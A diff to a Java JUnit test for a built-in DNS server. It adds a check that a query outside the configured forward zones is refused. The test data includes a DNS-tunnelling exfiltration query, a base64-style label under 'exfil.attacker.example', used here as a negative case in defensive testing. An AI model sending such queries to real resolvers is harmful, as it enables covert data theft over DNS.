@@ -26,7 +26,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * The checks from issue 8, with the real {@code dig} (Debian dnsutils) as the client, and
+ * The built-in DNS server's checks, with the real {@code dig} (Debian dnsutils) as the client, and
  * real query bytes captured from dig and from the JDK's DNS client. Skipped, with the reason
  * printed, where dig is not installed ({@code bash .ci/install-test-deps.sh} installs it).
  */
@@ -148,10 +148,13 @@ class DigTest {
     void forwardedToTheUpstream() throws Exception {
         needDig();
         try (FakeUpstream up = new FakeUpstream()) {
-            int port = start("dns.upstream = 127.0.0.1:" + up.port());
+            int port = start("dns.upstream = 127.0.0.1:" + up.port(), "dns.forwardZones = plant.local");
             String out = dig("@127.0.0.1", "-p", "" + port, "historian.plant.local");
             assertLine(out, "flags: qr rd ra;");
             assertLine(out, "^historian\\.plant\\.local\\.\\s+30\\s+IN\\s+A\\s+192\\.0\\.2\\.53$");
+            String exfil = dig("@127.0.0.1", "-p", "" + port, "TXT", "aGVsbG8.exfil.attacker.example");
+            assertLine(exfil, "status: REFUSED");
+            assertEquals(1, up.received.size(), "a name outside dns.forwardZones never reaches the upstream");
         }
     }
 
